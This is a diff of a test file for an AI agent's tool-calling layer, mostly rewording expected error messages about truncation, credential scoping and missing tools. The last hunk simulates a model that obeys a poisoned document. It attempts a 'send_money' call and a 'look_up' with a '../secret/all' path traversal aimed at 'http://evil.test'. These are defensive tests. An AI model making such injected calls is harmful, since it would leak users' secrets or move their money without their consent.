@@ -130,7 +130,7 @@ describe('a call', () => {
     const result = await test(toolWith(`${other.url}/@@id@@`, { response: { maxCharacters: 500 } }))
     expect(result).toMatchObject({ ok: true, truncated: true })
     expect(result.text).toMatch(
-      /^x{500}\n\[The answer was longer; only its first 500 characters are shown\.\]$/,
+      /^x{500}\n\[The response was longer; only its first 500 characters are shown\.\]$/,
     )
     await other.ended
     expect(sent).toBeLessThan(10_000_000)
@@ -256,7 +256,7 @@ describe('a credential', () => {
     const { id: credentialId } = await keep(other.url, null, { type: 'header', name: 'X-Key', value: secret })
     const direct = await test(toolWith(`${target.url}/@@id@@`, { credentialId }))
     expect(direct).toMatchObject({ ok: false, status: null, request: null })
-    expect(direct.text).toContain('is sent to no other site')
+    expect(direct.text).toContain('isn’t sent to any other site')
     expect(target.seen).toEqual([])
     await test(toolWith(`${other.url}/@@id@@`, { credentialId }))
     expect(other.seen[0]!.headers).toMatchObject({ 'x-key': secret })
@@ -293,7 +293,7 @@ describe('a credential', () => {
     const run = (await load(agentId)).run({ id: '1', name: 'look_up', arguments: { id: 'x' } }, { signal })
     expect(await run).toMatchObject({
       ok: false,
-      text: expect.stringContaining('not there any more') as string,
+      text: expect.stringContaining('no longer exists') as string,
     })
     expect(other.seen).toEqual([])
   })
@@ -317,7 +317,7 @@ describe('an agent', () => {
     ])
     // What a model that obeys a poisoned document would try.
     const obeyed = await own.run({ id: '1', name: 'send_money', arguments: { id: 'x' } }, { signal })
-    expect(obeyed).toMatchObject({ ok: false, text: 'This agent has no such tool.' })
+    expect(obeyed).toMatchObject({ ok: false, text: 'This agent doesn’t have this tool.' })
     const leak = await own.run(
       { id: '2', name: 'look_up', arguments: { id: '../secret/all', url: 'http://evil.test' } },
       { signal },
